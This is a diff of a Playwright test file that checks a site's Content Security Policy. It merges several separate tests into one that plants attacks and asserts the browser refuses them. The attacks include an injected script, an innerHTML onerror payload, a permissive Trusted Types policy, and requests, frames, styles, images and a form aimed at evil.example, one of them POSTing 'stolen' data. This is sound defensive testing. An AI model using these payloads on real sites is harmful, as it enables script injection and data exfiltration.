@@ -1,22 +1,8 @@
 import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import type { Page } from '@playwright/test';
 import { paths } from '../browser/paths.ts';
 import { expect, test } from '../browser/test.ts';
-
-/** Runs `action` in the page and waits until the browser has reported these refusals, each told once, and no other. */
-async function expectRefused(page: Page, action: () => unknown, ...directives: unknown[]): Promise<void> {
-  await page.evaluate(() => {
-    Object.assign(window, { refused: [] });
-    addEventListener('securitypolicyviolation', (event) => {
-      (window as unknown as { refused: string[] }).refused.push(event.effectiveDirective);
-    });
-  });
-  await page.evaluate(action).catch(() => undefined);
-  const read = () => page.evaluate(() => [...new Set((window as unknown as { refused: string[] }).refused)].sort());
-  await expect.poll(read).toEqual(directives);
-}
 
 test.describe('under the enforced policy', () => {
   test.use({ expectedNoise: [/status of 404/] });
@@ -37,7 +23,7 @@ test.describe('under the enforced policy', () => {
     }
   });
 
-  test('the next page is there before the click, and still not one refusal', { tag: '@desk' }, async ({ page }) => {
+  test('the next page is there before the click, and still not one refusal', async ({ page }) => {
     await page.goto('/');
     const prefetched = page.context().waitForEvent('request', (request) => request.url().endsWith('/cgu'));
     await page.locator('footer a[href="/cgu"]').hover();
@@ -63,76 +49,56 @@ test.describe('what an attacker plants is refused:', () => {
     expect(await page.evaluate(() => 'planted' in window)).toBe(false);
   });
 
-  test('an inline script from a script', async ({ page }) => {
-    await expectRefused(
-      page,
-      () => {
-        const script = document.createElement('script');
-        script.append('window.planted = 1');
-        document.body.append(script);
-      },
-      'require-trusted-types-for',
-    );
-    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
-  });
-
-  test('markup through innerHTML', async ({ page }) => {
-    await expectRefused(
-      page,
+  test('scripts, markup, a policy that would trust it, frames, requests, styles, images and forms of another', async ({
+    page,
+  }) => {
+    await page.evaluate(() => {
+      Object.assign(window, { refused: [] });
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+        (window as unknown as { refused: string[] }).refused.push(effectiveDirective);
+      });
+    });
+    const attacks: (() => unknown)[] = [
+      () => document.body.append(Object.assign(document.createElement('script'), { text: 'window.planted = 1' })),
       () => {
         document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
       },
-      'require-trusted-types-for',
-    );
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-  });
-
-  test('a policy that would make markup trusted', async ({ page }) => {
-    await expectRefused(
-      page,
       () => {
-        const { trustedTypes } = window as unknown as {
-          trustedTypes: { createPolicy(name: string, rules: object): void };
-        };
+        const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (...args: unknown[]) => void } };
         trustedTypes.createPolicy('default', { createHTML: (text: string) => text });
       },
-      'trusted-types',
-    );
-  });
-
-  test('a frame of another site', async ({ page }) => {
-    await expectRefused(
-      page,
+      () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
+      () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
       () => {
-        const frame = document.createElement('iframe');
-        frame.src = 'https://evil.example/';
-        document.body.append(frame);
+        const href = 'https://evil.example/style.css';
+        document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href }));
       },
-      'frame-src',
-    );
-  });
-
-  test('a request to another site', async ({ page }) => {
-    await expectRefused(page, () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }), 'connect-src');
-  });
-
-  test('a script, a style, an image and a form of another site', async ({ page }) => {
-    await expectRefused(
-      page,
-      () => {
-        const style = document.createElement('link');
-        Object.assign(style, { rel: 'stylesheet', href: 'https://evil.example/style.css' });
-        const image = new Image();
-        image.src = 'https://evil.example/pixel.png';
-        const form = document.createElement('form');
-        form.action = 'https://evil.example/';
-        document.body.append(style, image, form);
-        form.submit();
-      },
-      'form-action',
-      'img-src',
-      'style-src-elem',
-    );
+      () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
+    ];
+    for (const attack of attacks) await page.evaluate(attack).catch(() => undefined);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await page.evaluate(() => {
+      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
+      document.body.append(form);
+      form.submit();
+    });
+    // Each is told twice: the policy stands in the header and in the page.
+    const refused = async () =>
+      new Set(await page.evaluate(() => (window as unknown as { refused: string[] }).refused));
+    await expect
+      .poll(refused)
+      .toEqual(
+        new Set([
+          'connect-src',
+          'form-action',
+          'frame-src',
+          'img-src',
+          'require-trusted-types-for',
+          'style-src-elem',
+          'trusted-types',
+        ]),
+      );
+    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
   });
 
   test('a frame around this site', async ({ page, baseURL }) => {
